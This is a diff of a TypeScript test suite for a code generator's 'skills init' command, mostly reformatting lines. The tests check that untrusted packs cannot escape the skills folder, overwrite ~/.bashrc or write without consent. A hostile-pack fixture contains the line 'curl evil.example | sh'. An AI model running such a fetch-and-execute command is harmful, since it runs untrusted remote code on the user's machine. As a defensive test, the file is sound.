@@ -22,12 +22,19 @@ function user(): { top: string; home: string; env: Record<string, string> } {
   const top = scratch("skills-user");
   const home = join(top, "home");
   mkdirSync(home);
-  return { top, home, env: { HOME: home, XDG_CONFIG_HOME: join(top, "config"), CODEGEN_CACHE_DIR: join(top, "cache"), CI: "" } };
+  return {
+    top,
+    home,
+    env: { HOME: home, XDG_CONFIG_HOME: join(top, "config"), CODEGEN_CACHE_DIR: join(top, "cache"), CI: "" },
+  };
 }
 
 /** A cloned go-zero api project (the built-in pack) with the given name. */
 function builtinProject(name: string): string {
-  return writeTree(scratch("skills-proj"), { ".codegen.yaml": `name: ${name}\nmodule: example.com/demo\nframe: api\n`, "desc/api/demo.api": smallApi });
+  return writeTree(scratch("skills-proj"), {
+    ".codegen.yaml": `name: ${name}\nmodule: example.com/demo\nframe: api\n`,
+    "desc/api/demo.api": smallApi,
+  });
 }
 
 /** A cloned project whose pack (not built in) adds a skills rule writing `path`. */
@@ -37,7 +44,10 @@ function hostileProject(name: string, path: string): string {
     "rules/skills.yaml": `- name: profile\n  on: [skills]\n  path: "${path}"\n  template: profile.liquid\n`,
     "templates/profile.liquid": "curl evil.example | sh\n",
   });
-  return writeTree(scratch("skills-proj"), { ".codegen.yaml": `name: ${name}\nmodule: example.com/demo\nframe: docs\npack: ${pack}\n`, "desc/api/demo.api": smallApi });
+  return writeTree(scratch("skills-proj"), {
+    ".codegen.yaml": `name: ${name}\nmodule: example.com/demo\nframe: docs\npack: ${pack}\n`,
+    "desc/api/demo.api": smallApi,
+  });
 }
 
 test("name: ../.. with a pack rule path: .bashrc never writes ~/.bashrc", () => {
@@ -54,7 +64,10 @@ test("a project name that is not one folder name is refused at the config file, 
   const dir = builtinProject("../../../elsewhere/x");
   const r = codegen(["skills", "init"], dir, u.env);
   assert.is(r.code, 1, r.stdout + r.stderr);
-  assert.match(r.stderr, /\.codegen\.yaml:1:7: UNSAFE_PATH the project name "\.\.\/\.\.\/\.\.\/elsewhere\/x" is the skills folder's name/);
+  assert.match(
+    r.stderr,
+    /\.codegen\.yaml:1:7: UNSAFE_PATH the project name "\.\.\/\.\.\/\.\.\/elsewhere\/x" is the skills folder's name/,
+  );
   assert.not.ok(existsSync(join(u.top, "elsewhere")), "nothing outside the skills folder");
   assert.equal(snapshot(u.home), {});
   for (const name of ["..", ".", "a/b"]) {
@@ -77,7 +90,10 @@ test("an existing skill of the same name that skills init did not write is never
   const before = snapshot(u.home);
   const r = codegen(["skills", "init"], builtinProject("demo"), u.env);
   assert.is(r.code, 1, r.stdout + r.stderr);
-  assert.match(r.stderr, /SKILLS_NOT_OURS ~\/\.claude\/skills\/demo holds files skills init did not write: SKILL\.md; nothing was written/);
+  assert.match(
+    r.stderr,
+    /SKILLS_NOT_OURS ~\/\.claude\/skills\/demo holds files skills init did not write: SKILL\.md; nothing was written/,
+  );
   assert.equal(snapshot(u.home), before, "the user's skill is as it was");
 });
 
@@ -91,7 +107,11 @@ test("a skill file edited after skills init wrote it is kept; unchanged ones are
   const r = codegenOk(["skills", "init"], dir, u.env);
   assert.match(readFileSync(skill, "utf8"), /My own notes\./, "the edit stays");
   assert.match(r.stdout, /kept SKILL\.md: edited since skills init wrote it/);
-  assert.match(readFileSync(join(u.home, ".claude/skills/demo/reference/layout.md"), "utf8"), /listAllThings/, "an unchanged file is refreshed");
+  assert.match(
+    readFileSync(join(u.home, ".claude/skills/demo/reference/layout.md"), "utf8"),
+    /listAllThings/,
+    "an unchanged file is refreshed",
+  );
 });
 
 test("a folder in the skills folder that is a link out is never written through", () => {
@@ -113,7 +133,10 @@ test("a pack that is not built in writes skills only with consent, and only insi
   const dir = hostileProject("demo", ".bashrc");
   const r = codegen(["skills", "init"], dir, u.env);
   assert.is(r.code, 1, r.stdout + r.stderr);
-  assert.match(r.stderr, /COMMANDS_NOT_ALLOWED codegen skills init would [\s\S]*skills rule \(pack .* rule profile\): writes \.bashrc in the skills folder/);
+  assert.match(
+    r.stderr,
+    /COMMANDS_NOT_ALLOWED codegen skills init would [\s\S]*skills rule \(pack .* rule profile\): writes \.bashrc in the skills folder/,
+  );
   assert.equal(snapshot(u.home), {}, "nothing written without consent");
   codegenOk(["trust"], dir, u.env);
   codegenOk(["skills", "init"], dir, u.env);
@@ -127,13 +150,21 @@ test("the skills folder is the pack's: one below the home is used, one leaving i
     writeTree(scratch("skills-pack"), {
       "pack.yaml": `name: agent\nextends: go-zero\n${skills}`,
     });
-  const project = (pack: string): string => writeTree(scratch("skills-proj"), { ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: api\npack: ${pack}\n`, "desc/api/demo.api": smallApi });
+  const project = (pack: string): string =>
+    writeTree(scratch("skills-proj"), {
+      ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: api\npack: ${pack}\n`,
+      "desc/api/demo.api": smallApi,
+    });
   const elsewhere = project(packWith("skills:\n  folder: ~/.agent/skills\n"));
   const r = codegen(["skills", "init", "--trust"], elsewhere, u.env);
   assert.is(r.code, 0, r.stdout + r.stderr);
   assert.ok(existsSync(join(u.home, ".agent/skills/demo/SKILL.md")));
   for (const folder of ["~/../outside", "~/a/../../outside", "/etc/skills", "skills"]) {
-    const bad = codegen(["skills", "init", "--trust"], project(packWith(`skills:\n  folder: ${JSON.stringify(folder)}\n`)), u.env);
+    const bad = codegen(
+      ["skills", "init", "--trust"],
+      project(packWith(`skills:\n  folder: ${JSON.stringify(folder)}\n`)),
+      u.env,
+    );
     assert.is(bad.code, 1, `${folder}: ${bad.stdout}${bad.stderr}`);
     assert.match(bad.stderr, /pack\.yaml:\d+:\d+: PACK_INVALID .*skills\.folder|skills\/folder/);
   }
@@ -143,7 +174,10 @@ test("the skills folder is the pack's: one below the home is used, one leaving i
     "rules/skills.yaml": `- name: notes\n  on: [skills]\n  path: "NOTES.md"\n  template: notes.liquid\n`,
     "templates/notes.liquid": "notes\n",
   });
-  const plain = writeTree(scratch("skills-proj"), { ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: docs\npack: ${noFolder}\n`, "desc/api/demo.api": smallApi });
+  const plain = writeTree(scratch("skills-proj"), {
+    ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: docs\npack: ${noFolder}\n`,
+    "desc/api/demo.api": smallApi,
+  });
   const none = codegen(["skills", "init", "--trust"], plain, u.env);
   assert.is(none.code, 2, none.stdout + none.stderr);
   assert.match(none.stderr, /USAGE pack plain names no skills folder \(pack\.yaml skills\.folder\)/);
